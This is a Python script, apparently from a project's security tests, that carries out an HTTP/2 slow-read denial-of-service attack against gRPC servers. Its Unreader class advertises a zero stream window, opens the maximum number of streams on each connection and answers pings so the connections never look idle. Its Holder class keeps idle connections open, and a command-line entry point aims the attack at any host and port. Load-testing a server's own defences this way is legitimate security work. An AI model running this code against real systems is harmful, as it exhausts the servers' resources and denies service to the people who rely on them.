"""Peers that never read their answers, and peers that only hold connections open.

Used by scripts/attack (findings 1 and 2 of issue 48); runnable alone against a server:

    python3 scripts/attack_unread.py HOST:PORT [/grpc.health.v1.Health/Check] [connections] [seconds]

An `Unreader` speaks HTTP/2 with a stream window of 0: the server may send headers but no byte of
any answer. It opens as many streams as the server allows on each of its connections, opens a new
one whenever the server ends one, answers the server's pings (so the connection never looks idle)
and never grants a window. It counts what it asked, what the server refused or reset, and how many
of its connections the server closed. Needs the `h2` package (pip install h2).
"""

import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


def grpc_message(payload=b""):
    """A gRPC length-prefixed message."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def proto_string(field, value):
    """One protobuf string field (wire type 2, short)."""
    data = value.encode()
    return bytes([(field << 3) | 2, len(data)]) + data


class Unreader:
    def __init__(self, host, port, path, message=b"", connections=16, authority=None):
        self.host, self.port, self.path, self.message = host, port, path, grpc_message(message)
        self.connections = connections
        self.authority = authority or f"{host}:{port}"
        self.lock = threading.Lock()
        self.asked = self.answered_headers = self.ended = self.closed = self.failed_connect = 0
        self.statuses = {}
        self.stop_at = 0.0
        self.threads = []

    def _count(self, **kw):
        with self.lock:
            for k, v in kw.items():
                setattr(self, k, getattr(self, k) + v)

    def start(self, seconds):
        self.stop_at = time.time() + seconds
        for _ in range(self.connections):
            t = threading.Thread(target=self._run, daemon=True)
            t.start()
            self.threads.append(t)

    def join(self):
        for t in self.threads:
            t.join(max(0.0, self.stop_at - time.time()) + 5)

    def _run(self):
        # Each thread keeps one connection; when the server closes it, it opens another.
        while time.time() < self.stop_at:
            try:
                sock = socket.create_connection((self.host, self.port), timeout=5)
            except OSError:
                self._count(failed_connect=1)
                time.sleep(0.2)
                continue
            try:
                self._connection(sock)
            except (OSError, h2.exceptions.ProtocolError):
                pass
            finally:
                sock.close()
            self._count(closed=1)

    def _connection(self, sock):
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0,
            h2.settings.SettingCodes.ENABLE_PUSH: 0,
        })
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.settimeout(0.2)
        open_streams = set()
        headers = [
            (":method", "POST"), (":scheme", "http"), (":authority", self.authority), (":path", self.path),
            ("content-type", "application/grpc"), ("te", "trailers"),
        ]
        while time.time() < self.stop_at:
            limit = conn.remote_settings.max_concurrent_streams
            # Open streams up to the server's cap (at most 256 per turn, to keep reading pings).
            opened = 0
            while len(open_streams) < limit and opened < 256:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                conn.send_data(sid, self.message, end_stream=True)
                open_streams.add(sid)
                opened += 1
            if opened:
                self._count(asked=opened)
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
            try:
                data = sock.recv(65536)
            except socket.timeout:
                continue
            if not data:
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    self._count(answered_headers=1)
                    status = dict(event.headers).get("grpc-status")
                    if status is not None:
                        with self.lock:
                            self.statuses[status] = self.statuses.get(status, 0) + 1
                elif isinstance(event, h2.events.TrailersReceived):
                    status = dict(event.headers).get("grpc-status", "?")
                    with self.lock:
                        self.statuses[status] = self.statuses.get(status, 0) + 1
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    if event.stream_id in open_streams:
                        open_streams.discard(event.stream_id)
                        self._count(ended=1)
                elif isinstance(event, h2.events.ConnectionTerminated):
                    return
            out = conn.data_to_send()
            if out:
                sock.sendall(out)

    def summary(self):
        with self.lock:
            return (f"{self.asked} calls asked on {self.connections} connections, {self.ended} ended by the server "
                    f"(grpc-status {dict(sorted(self.statuses.items()))}), {self.closed} connections closed by it")


class Holder:
    """Connections that send the HTTP/2 preface and settings, answer pings, and ask nothing."""

    def __init__(self, host, port, count):
        self.host, self.port, self.count = host, port, count
        self.socks, self.conns = [], []
        self.refused = 0

    def open(self):
        for _ in range(self.count):
            try:
                s = socket.create_connection((self.host, self.port), timeout=2)
            except OSError:
                self.refused += 1
                continue
            c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            c.initiate_connection()
            try:
                s.sendall(c.data_to_send())
            except OSError:
                self.refused += 1
                s.close()
                continue
            s.setblocking(False)
            self.socks.append(s)
            self.conns.append(c)

    def pump(self):
        """Answer pings; return how many connections the server has closed so far."""
        closed = 0
        for s, c in zip(self.socks, self.conns):
            if s.fileno() < 0:
                closed += 1
                continue
            try:
                data = s.recv(65536)
                if not data:
                    s.close()
                    closed += 1
                    continue
                c.receive_data(data)
                out = c.data_to_send()
                if out:
                    s.sendall(out)
            except BlockingIOError:
                pass
            except (OSError, h2.exceptions.ProtocolError):
                s.close()
                closed += 1
        return closed

    def close(self):
        for s in self.socks:
            s.close()


if __name__ == "__main__":
    target = sys.argv[1]
    path = sys.argv[2] if len(sys.argv) > 2 else "/grpc.health.v1.Health/Check"
    conns = int(sys.argv[3]) if len(sys.argv) > 3 else 16
    secs = float(sys.argv[4]) if len(sys.argv) > 4 else 30
    host, port = target.rsplit(":", 1)
    u = Unreader(host, int(port), path, connections=conns)
    u.start(secs)
    while any(t.is_alive() for t in u.threads):
        time.sleep(5)
        print(u.summary(), flush=True)
    u.join()
    print(u.summary())
